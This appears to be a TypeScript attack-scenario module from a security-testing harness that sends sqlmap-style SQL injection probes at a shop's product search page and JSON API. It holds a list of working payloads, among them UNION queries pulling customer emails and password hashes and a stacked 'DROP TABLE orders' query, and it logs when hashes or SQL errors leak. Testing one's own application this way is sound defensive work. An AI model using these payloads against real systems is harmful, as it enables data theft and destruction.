/**
 * sql-injection: sqlmap-style probes of the product search, in the page and the JSON
 * API (tautologies, UNION extraction, error-based, time-based and stacked queries).
 */
import { ATTACK_USER_AGENTS } from '../user-agents.js';
import type { AttackScenario } from './types.js';

const PAYLOADS = [
  "'",
  "' OR 1=1 --",
  "' OR '1'='1",
  "shoe' AND 1=2 --",
  "' UNION SELECT id, email, password_hash, 0, 'EUR', 'x' FROM customers --",
  "' UNION SELECT 1, name, sql, 0, 'EUR', 'x' FROM sqlite_master --",
  "' AND 1=CAST((SELECT email FROM customers LIMIT 1) AS INTEGER) --",
  "' AND (SELECT COUNT(*) FROM sqlite_master) > 0 --",
  "'; DROP TABLE orders; --",
  "1' ORDER BY 10 --",
  "' AND 1=(SELECT 1 FROM customers WHERE email LIKE 'admin%') --",
  "%' AND 1=1 AND '%'='",
];

export const sqlInjection: AttackScenario = {
  name: 'sql-injection',
  description: 'Injects SQL into the product search (page and API) the way sqlmap does.',
  maxRequests: 2 * PAYLOADS.length,
  maxDurationMs: 30_000,
  ratePerSecond: 10,
  async run(ctx) {
    const client = ctx.client(ATTACK_USER_AGENTS.sqlmap);
    for (const payload of PAYLOADS) {
      const q = encodeURIComponent(payload);
      const page = await client.get(`/search?q=${q}`);
      if (page.body.includes('$argon2id$')) ctx.note('password_hashes_leaked');
      if (page.body.includes('in query: SELECT')) ctx.note('sql_error_leaked');
      await client.get(`/api/products?q=${q}`);
    }
  },
};
